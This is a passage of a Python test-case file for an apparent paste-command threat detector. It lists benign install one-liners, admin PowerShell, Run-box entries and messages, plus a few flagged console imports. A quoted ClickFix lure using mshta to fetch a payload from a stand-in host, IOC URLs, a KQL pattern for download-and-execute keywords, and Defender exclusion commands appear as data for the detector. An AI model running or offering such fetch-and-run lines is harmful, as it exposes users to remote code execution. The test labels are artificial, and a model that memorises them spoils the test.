        "https://www.npmjs.com/package/date-fns",
        "const { format } = await import('https://esm.sh/date-fns@4.1.0');\nformat(new Date(), "
        "'yyyy-MM-dd')",
    ),
]


def console_cases() -> list[Case]:
    out = [
        case(
            f"b4-console-{i:03d}",
            text,
            "not_flagged",
            "benign-console",
            "any",
            page,
            "browser_console",
        )
        for i, (page, text) in enumerate(CONSOLE, 1)
    ]
    out += [
        case(
            f"b4-console-import-{i:03d}",
            text,
            "flagged",
            "console-remote-module",
            "any",
            page,
            "browser_console",
        )
        for i, (page, text) in enumerate(CONSOLE_IMPORTS, 1)
    ]
    return out


RUNBOX = [
    "notepad",
    "%appdata%",
    "%temp%",
    "shell:startup",
    "msconfig",
    "winver",
    "mstsc",
    "calc",
    "ncpa.cpl",
    "services.msc",
    "control printers",
    "optionalfeatures",
    "cleanmgr",
    "resmon",
    "perfmon /rel",
    "mdsched",
    "dxdiag",
    "sysdm.cpl",
    "eventvwr",
    "gpedit.msc",
    "ms-settings:windowsupdate",
    "wt",
    "\\\\nas01\\media",
    "https://intranet.contoso.com/helpdesk",
    "shell:AppsFolder",
    "winword /safe",
    "C:\\Program Files",
    "explorer.exe shell:::{ED7BA470-8E54-465E-825C-99712043E01C}",
]
EXPLORER = [
    "%USERPROFILE%\\Downloads",
    "C:\\Users\\Public\\Documents",
    "\\\\nas01\\photos\\2024",
    "shell:sendto",
    "Control Panel\\All Control Panel Items",
    "This PC",
    "\\\\wsl$\\Ubuntu\\home",
    "shell:Fonts",
    "%LOCALAPPDATA%\\Temp",
]


def runbox() -> list[Case]:
    out = []
    for i, text in enumerate(RUNBOX, 1):
        out.append(
            case(
                f"b4-runbox-{i:03d}",
                text,
                "not_flagged",
                "benign-run-box",
                "windows",
                None,
                "run_dialog",
            )
        )
    for i, text in enumerate(EXPLORER, 1):
        out.append(
            case(
                f"b4-explorer-{i:03d}",
                text,
                "not_flagged",
                "benign-explorer",
                "windows",
                None,
                "explorer_bar",
            )
        )
    # typed after reading a help page: the page is the help article
    helps = [
        ("https://support.microsoft.com/en-us/windows/open-control-panel-in-windows", "control"),
        (
            "https://www.dell.com/support/kbdoc/en-us/000124211/how-to-open-device-manager",
            "hdwwiz.cpl",
        ),
        (
            "https://support.microsoft.com/en-us/office/start-office-apps-in-safe-mode",
            "outlook.exe /safe",
        ),
        ("https://www.tenforums.com/tutorials/2975-system-restore-windows-10.html", "rstrui.exe"),
        ("https://support.microsoft.com/en-us/windows/startup-folder", "shell:common startup"),
    ]
    for i, (page, text) in enumerate(helps, 1):
        out.append(
            case(
                f"b4-runbox-help-{i:03d}",
                text,
                "not_flagged",
                "benign-run-box",
                "windows",
                page,
                "run_dialog",
            )
        )
    return out


# Genuine messages with a phone number (banks, airlines, carriers, support desks).
MESSAGES = [
    (
        "en",
        "Hi Sam, your flight BA 2490 to Lisbon on 14 Mar has been retimed to depart at 10:40. "
        "No action is needed. Manage your booking at ba.com or call +44 344 493 0787.",
    ),
    (
        "en",
        "Your Acme Energy bill for February is £84.12, due 3 March. Questions? Call "
        "0800 048 1234, Mon-Fri 8am-6pm.",
    ),
    (
        "en",
        "Reminder: your appointment with Dr Patel is on Tue 9 Apr at 10:15. To cancel or "
        "reschedule call the surgery on 020 7946 0321.",
    ),
    (
        "en",
        "Thanks for contacting Northwind Support. Your ticket #48213 is open. If you need to "
        "reach us by phone, our desk is at 1-800-555-0148 (8am-8pm ET).",
    ),
    (
        "de",
        "Ihr Paket 00340434161094042557 wird heute zwischen 14:00 und 16:00 Uhr zugestellt. "
        "Fragen? Kundenservice: 0228 4333 112.",
    ),
    (
        "de",
        "Sehr geehrte Kundin, Ihre neue Debitkarte wurde versandt und kommt in 3-5 Tagen. "
        "Aktivieren Sie sie in der App. Hotline: 069 910 10000.",
    ),
    (
        "fr",
        "Bonjour, votre rendez-vous au centre de contrôle technique est confirmé le 12/04 à "
        "9h30. Pour modifier, appelez le 01 45 67 89 10.",
    ),
    (
        "fr",
        "Votre commande n°A-22391 a été expédiée. Suivi sur notre site ou au 09 69 32 15 15 "
        "(appel non surtaxé).",
    ),
    (
        "es",
        "Hola Lucía, tu pedido 1189-334 llegará mañana entre las 9:00 y las 13:00. Dudas: "
        "900 123 456.",
    ),
    (
        "es",
        "Le recordamos su cita en la ITV el jueves a las 11:20. Si no puede asistir, llame al "
        "914 567 890.",
    ),
    (
        "it",
        "Gentile cliente, la sua bolletta di marzo è disponibile nell'area clienti. Per "
        "informazioni chiami il numero verde 800 900 860.",
    ),
    (
        "pt",
        "Olá! A sua encomenda CTT RR123456789PT está disponível para levantamento na loja. "
        "Dúvidas: 210 471 616.",
    ),
    (
        "nl",
        "Beste klant, uw afspraak bij de garage staat gepland op 4 juni om 08:30. Verzetten? "
        "Bel 020 123 4567.",
    ),
    ("pl", "Dzień dobry, Twoja przesyłka została nadana. Infolinia: 22 123 45 67 (pn-pt 8-18)."),
    (
        "tr",
        "Sayın müşterimiz, randevunuz 12 Nisan saat 14:00 olarak onaylanmıştır. Bilgi için "
        "0850 222 0 123 numaralı çağrı merkezimizi arayabilirsiniz.",
    ),
    ("ru", "Ваш заказ №58213 передан в службу доставки. Вопросы по телефону 8 800 555-35-35."),
    (
        "ja",
        "ご予約ありがとうございます。4月12日 15:00 にお待ちしております。変更はお電話で "
        "03-1234-5678 までご連絡ください。",
    ),
    ("zh", "您的快递已到达小区驿站，取件码 5-2-3018。如有疑问请致电 021-6123-4567。"),
    ("ar", "عزيزي العميل، تم تأكيد موعدك يوم الأحد الساعة 10 صباحاً. للاستفسار اتصل على 920000000."),
    ("ko", "고객님의 택배가 오늘 도착 예정입니다. 문의: 1588-1255"),
    ("sv", "Hej! Din tid hos tandläkaren är bokad till 3 maj kl 09:00. Avboka på 08-123 456 78."),
    (
        "en",
        "Your card ending 4417 was used for £12.99 at SPOTIFY. If you don't recognise this, "
        "freeze your card in the app or call the number on the back of your card.",
    ),
    (
        "en",
        "FRAUD ALERT from Lakeside Bank: did you attempt a purchase of $482.10 at BESTBUY on "
        "04/12? Reply YES or NO. We will never ask for your PIN or online banking password.",
    ),
    (
        "de",
        "Ihre Bank: Wir haben Ihre Karte nach drei falschen PIN-Eingaben vorübergehend "
        "gesperrt. Eine neue PIN können Sie in der Filiale oder in der App anfordern.",
    ),
]


def messages() -> list[Case]:
    out = []
    for i, (lang, text) in enumerate(MESSAGES, 1):
        out.append(
            case(
                f"b4-msg-{lang}-{i:03d}",
                text,
                "not_flagged",
                "benign-message",
                "any",
                None,
                "unknown",
            )
        )
    return out


# Security write-ups quoting lures; the analyst pastes into a notes app or a ticket.
PROSE = [
    (
        "https://www.example-security-blog.com/2025/clickfix-campaign-analysis",
        "The fake CAPTCHA instructs the victim to press Win+R and paste a command of the form "
        "`mshta hxxps://check-verify[.]test/v.hta`, which fetches the second stage.",
    ),
    (
        "https://research.example-labs.com/reports/lumma-2025",
        "IOCs:\nhxxps://cdn-update[.]invalid/a.ps1\n198.51.100[.]23\nSHA256 "
        "3f786850e387550fdab836ed7e6dc881de23001b",
    ),
    (
        "https://learn.microsoft.com/en-us/defender-xdr/advanced-hunting-overview",
        'DeviceProcessEvents\n| where InitiatingProcessFileName =~ "explorer.exe"\n'
        '| where FileName in~ ("powershell.exe", "mshta.exe")\n| where ProcessCommandLine has_any '
        '("iwr", "irm", "DownloadString")',
    ),
]


def prose() -> list[Case]:
    return [
        case(f"b4-prose-{i:03d}", text, "not_flagged", "benign-prose", "any", page, "other")
        for i, (page, text) in enumerate(PROSE, 1)
    ]


# Configuration files, CI steps, logs and notebooks, pasted into an editor.
CONFIG = [
    (
        "https://docs.github.com/en/actions/writing-workflows/quickstart",
        "jobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4"
        "\n      - name: Install uv\n        run: curl -LsSf https://astral.sh/uv/install.sh | sh\n"
        "      - run: uv sync && uv run pytest",
    ),
    (
        "https://github.com/nodesource/distributions",
        "FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y curl ca-certificates "
        "\\\n && curl -fsSL https://deb.nodesource.com/setup_22.x | bash - \\\n && apt-get install -y "
        "nodejs",
    ),
    (
        "https://docs.gitlab.com/ci/yaml/",
        "test:\n  image: python:3.12\n  before_script:\n    - pip install -r requirements.txt\n"
        "  script:\n    - pytest -q",
    ),
    (
        "https://nginx.org/en/docs/beginners_guide.html",
        "server {\n    listen 80;\n    server_name example.org;\n    location / {\n        "
        "proxy_pass http://127.0.0.1:8080;\n    }\n}",
    ),
    (
        None,
        "2026-12-05T23:41:07.114Z INFO  [worker-3] job=thumbnail id=8812 took 412ms\n"
        "2026-12-05T23:41:07.530Z WARN  [worker-1] retrying upload to s3://media-prod/2026/12/ "
        "(attempt 2/5)\n2026-12-05T23:41:08.002Z INFO  [worker-1] upload ok",
    ),
    (
        None,
        "Dec  5 23:40:01 web01 CRON[21344]: (root) CMD (command -v debian-sa1 > /dev/null && "
        "debian-sa1 1 1)\nDec  5 23:41:12 web01 sshd[21380]: Accepted publickey for deploy from "
        "10.0.4.12 port 50122 ssh2",
    ),
    (
        "https://colab.research.google.com/drive/1AbCdEfGhIjKlMnOpQrStUvWxYz",
        "!curl -fsSL https://ollama.com/install.sh | sh\n!nohup ollama serve > ollama.log 2>&1 &\n"
        "!ollama pull llama3.2",
    ),
    (
        "https://github.com/mislav/dotfiles/blob/main/zshrc",
        'export PATH="$HOME/.local/bin:$PATH"\neval "$(starship init zsh)"\neval "$(zoxide init '
        'zsh)"\n[ -f ~/.fzf.zsh ] && source ~/.fzf.zsh',
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/about/about_"
        "profiles",
        "if (Test-Path $PROFILE) { notepad $PROFILE } else { New-Item -Path $PROFILE "
        "-Type File -Force }",
    ),
    (
        "https://kubernetes.io/docs/concepts/workloads/controllers/deployment/",
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: nginx-deployment\nspec:\n  "
        "replicas: 3\n  selector:\n    matchLabels:\n      app: nginx\n  template:\n    metadata:\n"
        "      labels:\n        app: nginx\n    spec:\n      containers:\n      - name: nginx\n"
        "        image: nginx:1.27.3\n        ports:\n        - containerPort: 80",
    ),
]


def config() -> list[Case]:
    return [
        case(f"b4-config-{i:03d}", text, "not_flagged", "benign-config", "any", page, "other")
        for i, (page, text) in enumerate(CONFIG, 1)
    ]


def _platform(text: str) -> str:
    first = text.lower()
    windows = (
        "irm ",
        "iwr ",
        "invoke-",
        "winget ",
        "choco ",
        "scoop ",
        "msiexec ",
        "add-appx",
        "powershell ",
        "& (",
        "iex ",
        "set-executionpolicy",
    )
    if first.startswith(windows) or "install.ps1" in first:
        return "windows"
    return "macos" if first.startswith("brew ") else "linux"


def more_shapes() -> list[Case]:
    """README shapes beyond curl | sh (saved then run, sudo -E, piped arguments, script blocks,
    release APIs, package managers pointed at the repository, release packages and bundles),
    other forges' release and package pages, and more vendors' own pages."""
    out: list[Case] = []

    def add(cid: str, text: str, source: str, target: str = "terminal") -> None:
        out.append(
            case(
                f"b4-shape-{cid}",
                text,
                "not_flagged",
                "benign-own-page",
                _platform(text),
                source,
                target,
            )
        )

    OWNER, REPO = "saltmarsh-dev", "brine"
    gh = f"https://github.com/{OWNER}/{REPO}"
    shapes = [
        f"curl -fsSL https://raw.githubusercontent.com/{OWNER}/{REPO}/main/install.sh -o install.sh && bash install.sh",
        f"wget -O - https://raw.githubusercontent.com/{OWNER}/{REPO}/main/install.sh | sudo -E bash -",
        f"curl -fsSL https://raw.githubusercontent.com/{OWNER}/{REPO}/main/install.sh | sudo bash -s -- --channel stable",
        f"curl -fsSL https://raw.githubusercontent.com/{OWNER}/{REPO}/main/install.sh | env BRINE_HOME=$HOME/.brine sh",
        f"iwr -useb https://raw.githubusercontent.com/{OWNER}/{REPO}/main/install.ps1 | iex",
        f"Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('https://raw.githubusercontent.com/{OWNER}/{REPO}/main/install.ps1'))",
        f"& ([scriptblock]::Create((irm https://raw.githubusercontent.com/{OWNER}/{REPO}/main/install.ps1))) -Version 1.2.0",
        f'powershell -NoProfile -ExecutionPolicy Bypass -Command "iwr -useb https://raw.githubusercontent.com/{OWNER}/{REPO}/main/install.ps1 | iex"',
        f'iex "& {{ $(irm https://raw.githubusercontent.com/{OWNER}/{REPO}/main/install.ps1) }} -Global"',
        f"curl -s https://api.github.com/repos/{OWNER}/{REPO}/releases/latest | grep browser_download_url | grep linux_amd64 | cut -d '\"' -f 4 | wget -qi -",
        f"gh release download --repo {OWNER}/{REPO} --pattern '*linux_amd64.tar.gz'",
        f"go install github.com/{OWNER}/{REPO}/cmd/{REPO}@latest",
        f"cargo install --git https://github.com/{OWNER}/{REPO} --locked",
        f"pip install git+https://github.com/{OWNER}/{REPO}.git@v1.2.0",
        f"npx github:{OWNER}/{REPO} init",
        f"uvx --from git+https://github.com/{OWNER}/{REPO} {REPO} --help",
        f"nix run github:{OWNER}/{REPO}",
        f"brew install {OWNER}/tap/{REPO}",
        f"brew tap {OWNER}/{REPO} && brew install {REPO}",
        f"scoop bucket add {OWNER} https://github.com/{OWNER}/scoop-bucket\nscoop install {OWNER}/{REPO}",
        f"wget https://github.com/{OWNER}/{REPO}/releases/download/v1.2.0/{REPO}-x86_64.AppImage && chmod +x {REPO}-x86_64.AppImage && ./{REPO}-x86_64.AppImage",
        f"wget https://github.com/{OWNER}/{REPO}/releases/download/v1.2.0/{REPO}_1.2.0_amd64.deb && sudo dpkg -i {REPO}_1.2.0_amd64.deb",
        f"sudo rpm -i https://github.com/{OWNER}/{REPO}/releases/download/v1.2.0/{REPO}-1.2.0.x86_64.rpm",
        f"Invoke-WebRequest -Uri https://github.com/{OWNER}/{REPO}/releases/download/v1.2.0/{REPO}-setup.exe -OutFile {REPO}-setup.exe; .\\{REPO}-setup.exe /S",
        f"msiexec /i https://github.com/{OWNER}/{REPO}/releases/download/v1.2.0/{REPO}.msi /quiet",
        f"Add-AppxPackage https://github.com/{OWNER}/{REPO}/releases/download/v1.2.0/{REPO}.msixbundle",
        f"kubectl apply -f https://raw.githubusercontent.com/{OWNER}/{REPO}/main/deploy/operator.yaml",
        f"helm repo add {OWNER} https://{OWNER}.github.io/helm-charts && helm install {REPO} {OWNER}/{REPO}",
        f"docker run --rm -it -v $PWD:/work ghcr.io/{OWNER}/{REPO}:latest",
        f"curl -sSfL https://raw.githubusercontent.com/{OWNER}/{REPO}/main/install.sh | sh -s -- -b $(go env GOPATH)/bin v1.2.0",
        f"curl -fsSL https://github.com/{OWNER}/{REPO}/raw/main/install.sh | bash",
        f"curl -fsSLO https://github.com/{OWNER}/{REPO}/releases/download/v1.2.0/{REPO}_checksums.txt && sha256sum --ignore-missing -c {REPO}_checksums.txt",
        f"curl -fsSL https://codeload.github.com/{OWNER}/{REPO}/tar.gz/refs/tags/v1.2.0 | tar -xz && cd {REPO}-1.2.0 && make install",
    ]
    for i, t in enumerate(shapes):
        add(f"gh-{i:02d}", t, gh)
    # forge pages of other shapes
    add(
        "gl-api",
        "curl -fsSL https://gitlab.com/api/v4/projects/48213/packages/generic/brine/1.2.0/brine-linux-amd64 -o brine && chmod +x brine",
        "https://gitlab.com/saltmarsh-dev/brine",
    )
    add(
        "gl-rel",
        "curl -fsSL https://gitlab.com/saltmarsh-dev/brine/-/releases/v1.2.0/downloads/install.sh | sh",
        "https://gitlab.com/saltmarsh-dev/brine/-/releases",
    )
    add(
        "cb-rel",
        "curl -fsSL https://codeberg.org/saltmarsh-dev/brine/releases/download/v1.2.0/install.sh | sh",
        "https://codeberg.org/saltmarsh-dev/brine/releases",
    )
    add(
        "gitea",
        "curl -fsSL https://git.saltmarsh.dev/saltmarsh/brine/raw/branch/main/install.sh | sh",
        "https://git.saltmarsh.dev/saltmarsh/brine",
    )
    add(
        "vencord",
        "irm https://raw.githubusercontent.com/Vendicated/VencordInstaller/main/install.ps1 | iex",
        "https://vencord.dev/download/",
    )
    add(
        "nvidia",
        "curl -fsSL https://nvidia.github.io/libnvidia-container/gpgkey | sudo gpg --dearmor -o /usr/share/keyrings/nvidia-container-toolkit-keyring.gpg",
        "https://docs.nvidia.com/datacenter/cloud-native/container-toolkit/latest/install-guide.html",
    )
    add("pivpn", "curl -L https://install.pivpn.io | bash", "https://www.pivpn.io/")
    add("rvm", "\\curl -sSL https://get.rvm.io | bash -s stable", "https://rvm.io/rvm/install")
    add("webi", "curl -sS https://webi.sh/node | sh", "https://webinstall.dev/node/")
    add(
        "anza",
        'sh -c "$(curl -sSfL https://release.anza.xyz/stable/install)"',
        "https://docs.anza.xyz/cli/install",
    )
    add(
        "devbox",
        "curl -fsSL https://get.jetify.com/devbox | bash",
        "https://www.jetify.com/docs/devbox/installing_devbox/",
    )
    add(
        "firebase", "curl -sL https://firebase.tools | bash", "https://firebase.google.com/docs/cli"
    )
    add("deno-x", "deno run -A https://deno.land/x/brine@1.2.0/cli.ts", "https://deno.land/x/brine")
    add("jsr", "deno install -gA jsr:@saltmarsh/brine", "https://jsr.io/@saltmarsh/brine")
    add(
        "pimoroni",
        "curl -sSL https://get.pimoroni.com/i2c | bash",
        "https://learn.pimoroni.com/article/getting-started-with-enviro-plus",
    )
    add("raspap", "curl -sL https://install.raspap.com | bash", "https://docs.raspap.com/")
    add(
        "homebridge",
        "curl -sSfL https://repo.homebridge.io/KEY.gpg | sudo gpg --dearmor | sudo tee /usr/share/keyrings/homebridge.gpg  > /dev/null",
        "https://github.com/homebridge/homebridge/wiki/Install-Homebridge-on-Debian-or-Ubuntu-Linux",
    )
    add(
        "crowdsec",
        "curl -s https://install.crowdsec.net | sudo sh",
        "https://docs.crowdsec.net/docs/getting_started/install_crowdsec/",
    )
    add(
        "wazuh",
        "curl -sO https://packages.wazuh.com/4.9/wazuh-install.sh && sudo bash ./wazuh-install.sh -a",
        "https://documentation.wazuh.com/current/quickstart.html",
    )
    add(
        "nextdns",
        "sh -c 'sh -c \"$(curl -sL https://nextdns.io/install)\"'",
        "https://github.com/nextdns/nextdns/wiki",
    )
    add(
        "adguard",
        "curl -s -S -L https://raw.githubusercontent.com/AdguardTeam/AdGuardHome/master/scripts/install.sh | sh -s -- -v",
        "https://github.com/AdguardTeam/AdGuardHome#getting-started",
    )
    add(
        "cloudpanel",
        'curl -sS https://installer.cloudpanel.io/ce/v2/install.sh -o install.sh; echo "a3ba69a8102345127b4ae0e28cfe89daca675cbc63cd39225133cdd2fa02ad36 install.sh" | sha256sum -c && sudo bash install.sh',
        "https://www.cloudpanel.io/docs/v2/getting-started/other/",
    )
    add(
        "hestia",
        "wget https://raw.githubusercontent.com/hestiacp/hestiacp/release/install/hst-install.sh\nsudo bash hst-install.sh",
        "https://hestiacp.com/install",
    )
    add(
        "virtualmin",
        "wget https://software.virtualmin.com/gpl/scripts/virtualmin-install.sh && sudo sh virtualmin-install.sh",
        "https://www.virtualmin.com/download/",
    )
    add(
        "aapanel",
        'URL=https://www.aapanel.com/script/install_7.0_en.sh && if [ -f /usr/bin/curl ];then curl -ksSO "$URL" ;else wget --no-check-certificate -O install_7.0_en.sh "$URL";fi;bash install_7.0_en.sh aapanel',
        "https://www.aapanel.com/new/download.html",
    )
    add(
        "ddev",
        "curl -fsSL https://ddev.com/install.sh | bash",
        "https://ddev.readthedocs.io/en/stable/users/install/ddev-installation/",
    )
    add(
        "lando",
        '/bin/bash -c "$(curl -fsSL https://get.lando.dev/setup-lando.sh)"',
        "https://docs.lando.dev/install/linux.html",
    )
    add("tea", "sh <(curl https://tea.xyz)", "https://docs.tea.xyz/")
    add(
        "zellij",
        "bash <(curl -L https://zellij.dev/launch)",
        "https://zellij.dev/documentation/installation",
    )
    add(
        "uv-win-ps", "irm https://astral.sh/uv/install.ps1 | iex", "https://github.com/astral-sh/uv"
    )
    add(
        "claude",
        "irm https://claude.ai/install.ps1 | iex",
        "https://docs.anthropic.com/en/docs/claude-code/setup",
    )
    add(
        "gemini", "npm install -g @google/gemini-cli", "https://github.com/google-gemini/gemini-cli"
    )
    add("opencode", "curl -fsSL https://opencode.ai/install | bash", "https://opencode.ai/docs/")
    add(
        "kiro",
        "curl -fsSL https://cli.kiro.dev/install | bash",
        "https://kiro.dev/docs/cli/installation/",
    )
    add(
        "cursor",
        "curl https://cursor.com/install -fsS | bash",
        "https://docs.cursor.com/en/cli/installation",
    )
    add("amp", "curl -fsSL https://ampcode.com/install.sh | bash", "https://ampcode.com/manual")
    add(
        "goose",
        "curl -fsSL https://github.com/block/goose/releases/download/stable/download_cli.sh | bash",
        "https://block.github.io/goose/docs/getting-started/installation/",
    )
    add(
        "aider",
        "curl -LsSf https://aider.chat/install.sh | sh",
        "https://aider.chat/docs/install.html",
    )
    add(
        "warp-linux",
        "sudo apt-get install wget gpg && wget -qO- https://releases.warp.dev/linux/keys/warp.asc | gpg --dearmor > warpdotdev.gpg",
        "https://docs.warp.dev/getting-started/readme/installation-and-setup",
    )
    add(
        "1pw-mac",
        "brew install --cask 1password-cli",
        "https://developer.1password.com/docs/cli/get-started/",
    )
    add(
        "tailscale-win",
        "winget install tailscale.tailscale",
        "https://tailscale.com/kb/1022/install-windows",
    )
    add(
        "powertoys",
        "winget install Microsoft.PowerToys --source winget",
        "https://learn.microsoft.com/en-us/windows/powertoys/install",
    )
    add("wsl-ubuntu", "wsl --install -d Ubuntu", "https://ubuntu.com/desktop/wsl")
    add(
        "choco-pkg",
        "choco install nodejs-lts -y",
        "https://community.chocolatey.org/packages/nodejs-lts",
    )
    add(
        "scoop-extras",
        "scoop bucket add extras\nscoop install extras/vscode",
        "https://scoop.sh/#/apps?q=vscode",
    )
    add("sdk-java", "sdk install java 21.0.2-open", "https://sdkman.io/usage")
    add(
        "asdf-node",
        "asdf plugin add nodejs https://github.com/asdf-vm/asdf-nodejs.git\nasdf install nodejs latest",
        "https://github.com/asdf-vm/asdf-nodejs",
    )
    add(
        "mise-use",
        "mise use --global node@22 python@3.12",
        "https://mise.jdx.dev/getting-started.html",
    )
    add(
        "pyenv-win",
        'Invoke-WebRequest -UseBasicParsing -Uri "https://raw.githubusercontent.com/pyenv-win/pyenv-win/master/pyenv-win/install-pyenv-win.ps1" -OutFile "./install-pyenv-win.ps1"; &"./install-pyenv-win.ps1"',
        "https://github.com/pyenv-win/pyenv-win#quick-start",
    )
    add(
        "nvm-win",
        "winget install CoreyButler.NVMforWindows",
        "https://github.com/coreybutler/nvm-windows",
    )
    add("volta-win", "winget install Volta.Volta", "https://docs.volta.sh/guide/getting-started")
    add(
        "rustup-win",
        "winget install Rustlang.Rustup",
        "https://rust-lang.github.io/rustup/installation/other.html",
    )
    add(
        "k3s-agent",
        "curl -sfL https://get.k3s.io | K3S_URL=https://myserver:6443 K3S_TOKEN=mynodetoken sh -",
        "https://docs.k3s.io/quick-start",
    )
    add("helm-win", "choco install kubernetes-helm", "https://helm.sh/docs/intro/install/")
    add("ollama-run", "ollama run llama3.2", "https://ollama.com/library/llama3.2")
    add(
        "docker-convenience",
        "curl -fsSL https://get.docker.com -o get-docker.sh\nsudo sh ./get-docker.sh --dry-run",
        "https://docs.docker.com/engine/install/ubuntu/#install-using-the-convenience-script",
    )
    add("bun-upgrade", "bun upgrade", "https://bun.sh/docs/installation#upgrading")
    add(
        "nix-darwin",
        "nix run nix-darwin/master#darwin-rebuild -- switch",
        "https://github.com/nix-darwin/nix-darwin",
    )
    add(
        "home-manager",
        "nix-channel --add https://github.com/nix-community/home-manager/archive/master.tar.gz home-manager\nnix-channel --update",
        "https://nix-community.github.io/home-manager/",
    )
    return out


def everyday() -> list[Case]:
    """Vendor admin PowerShell (Active Directory, Defender exclusions, scheduled tasks, BITS,
    MSU updates, redistributables, sign-in commands), everyday dev and macOS one-liners, console
    snippets, 50 Run-box and 10 Explorer entries, genuine messages with numbers (rides, flights,
    banks confirming what the holder did, parcels, appointments) in 12 languages: not flagged.
    Left out on purpose, since a warning is right for them whoever documents them: switching
    real-time protection off, certutil fetching a file, a console line reading document.cookie."""
    out: list[Case] = []

    def add(cid: str, text: str, source: str | None = None, target: str = "terminal") -> None:
        platform = "windows" if cid[0] in "are" else "macos" if cid in MACOS else "any"
        if cid.startswith("dv") and cid not in MACOS:
            platform = "linux"
        out.append(
            case(f"b4-day-{cid}", text, "not_flagged", "benign-everyday", platform, source, target)
        )

    L = "https://learn.microsoft.com/en-us/"
    # admin PowerShell from vendor docs
    add(
        "ad1",
        "Get-ADUser -Filter * -Properties LastLogonDate | Where-Object {$_.LastLogonDate -lt (Get-Date).AddDays(-90)} | Select Name,LastLogonDate",
        L + "powershell/module/activedirectory/get-aduser",
    )
    add(
        "ad2",
        "Install-WindowsFeature -Name AD-Domain-Services -IncludeManagementTools",
        L + "windows-server/identity/ad-ds/deploy/install-active-directory-domain-services",
    )
    add(
        "ad3",
        "Add-MpPreference -ExclusionPath 'C:\\BuildAgent\\work'",
        L + "defender-endpoint/configure-exclusions-microsoft-defender-antivirus",
    )
    add(
        "ad5",
        "Invoke-Command -ComputerName Server01, Server02 -ScriptBlock { Get-Service -Name W32Time }",
        L + "powershell/module/microsoft.powershell.core/invoke-command",
    )
    add(
        "ad6",
        "New-ScheduledTaskTrigger -Daily -At 3am | Register-ScheduledTask -TaskName 'Cleanup' -Action (New-ScheduledTaskAction -Execute 'PowerShell.exe' -Argument '-File C:\\Scripts\\cleanup.ps1')",
        L + "powershell/module/scheduledtasks/register-scheduledtask",
    )
    add(
        "ad7",
        "Get-WinEvent -LogName Security -MaxEvents 50 | Where-Object Id -eq 4625",
        L + "powershell/module/microsoft.powershell.diagnostics/get-winevent",
    )
    add(
        "ad8",
        "reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU /v NoAutoRebootWithLoggedOnUsers /t REG_DWORD /d 1 /f",
        L + "windows/deployment/update/waas-restart",
    )
    add(
        "ad9",
        "Start-BitsTransfer -Source https://download.microsoft.com/download/1/2/3/WindowsServer-KB5031364.msu -Destination C:\\Temp\\",
        L + "powershell/module/bitstransfer/start-bitstransfer",
    )
    add(
        "ad10",
        "wusa.exe C:\\Temp\\windows10.0-kb5031356-x64.msu /quiet /norestart",
        L
        + "troubleshoot/windows-client/installing-updates-features-roles/windows-update-standalone-installer",
    )
    add(
        "ad11",
        "Get-AppxPackage *3dbuilder* | Remove-AppxPackage",
        L + "windows/application-management/remove-provisioned-apps-during-update",
    )
    add(
        "ad12",
        "bcdedit /set {current} safeboot minimal",
        L + "windows-hardware/drivers/devtest/bcdedit--set",
    )
    add(
        "ad13",
        "[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12\nInstall-PackageProvider -Name NuGet -MinimumVersion 2.8.5.201 -Force",
        L + "powershell/gallery/powershellget/install-powershellget",
    )
    add(
        "ad14",
        "Get-CimInstance -ClassName Win32_OperatingSystem | Select-Object Caption, Version, LastBootUpTime",
        L + "powershell/module/cimcmdlets/get-ciminstance",
    )
    add(
        "ad15",
        "Invoke-WebRequest -Uri https://aka.ms/vs/17/release/vc_redist.x64.exe -OutFile vc_redist.x64.exe\n.\\vc_redist.x64.exe /install /quiet /norestart",
        L + "cpp/windows/latest-supported-vc-redist",
    )
    add("ad16", "az login --use-device-code", L + "cli/azure/authenticate-azure-cli-interactively")
    add(
        "ad17",
        'Connect-MgGraph -Scopes "User.Read.All","Group.ReadWrite.All"',
        L + "powershell/microsoftgraph/authentication-commands",
    )
    add(
        "ad18",
        "aws sso login --profile dev",
        "https://docs.aws.amazon.com/cli/latest/userguide/sso-configure-profile-token.html",
    )
    add(
        "ad19",
        "gcloud auth application-default login",
        "https://cloud.google.com/docs/authentication/provide-credentials-adc",
    )
    add(
        "ad20",
        "$cred = Get-Credential\nEnter-PSSession -ComputerName dc01.contoso.com -Credential $cred",
        L + "powershell/module/microsoft.powershell.core/enter-pssession",
    )
    add(
        "ad21",
        "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced' -Name HideFileExt -Value 0",
        "https://www.tenforums.com/tutorials/62842-hide-show-file-name-extensions-windows-10-a.html",
    )
    add(
        "ad22",
        "powershell -ExecutionPolicy Bypass -File .\\Deploy-Application.ps1 -DeploymentType Install -DeployMode Silent",
        "https://psappdeploytoolkit.com/docs/usage/deploying-your-application",
    )
    add(
        "ad23",
        "Get-ChildItem -Path $env:TEMP -Recurse | Remove-Item -Force -Recurse -ErrorAction SilentlyContinue",
        "https://superuser.com/questions/1234/clear-temp-folder-powershell",
    )
    add(
        "ad24",
        'schtasks /create /tn "Nightly Backup" /tr "C:\\Scripts\\backup.bat" /sc daily /st 02:00 /ru SYSTEM',
        L + "windows-server/administration/windows-commands/schtasks-create",
    )
    add(
        "ad25",
        'netsh advfirewall firewall add rule name="Open Port 8080" dir=in action=allow protocol=TCP localport=8080',
        L
        + "troubleshoot/windows-server/networking/netsh-advfirewall-firewall-control-firewall-behavior",
    )
    add(
        "ad27",
        'mshta.exe vbscript:Execute("MsgBox ""Hello"":close")',
        "https://ss64.com/nt/mshta.html",
        "other",
    )
    add(
        "ad28",
        "rundll32 sysdm.cpl,EditEnvironmentVariables",
        "https://superuser.com/questions/1114/open-environment-variables-dialog",
    )
    add("ad29", "rundll32.exe user32.dll,LockWorkStation", "https://ss64.com/nt/rundll32.html")
    add(
        "ad30",
        "Get-FileHash .\\setup.exe -Algorithm SHA256",
        L + "powershell/module/microsoft.powershell.utility/get-filehash",
    )
    # dev one-liners
    add(
        "dv1",
        "find . -name '*.pyc' -delete && git clean -fdx -e .env",
        "https://stackoverflow.com/questions/785519/how-do-i-remove-all-pyc-files",
    )
    add(
        "dv2",
        "docker system prune -af --volumes",
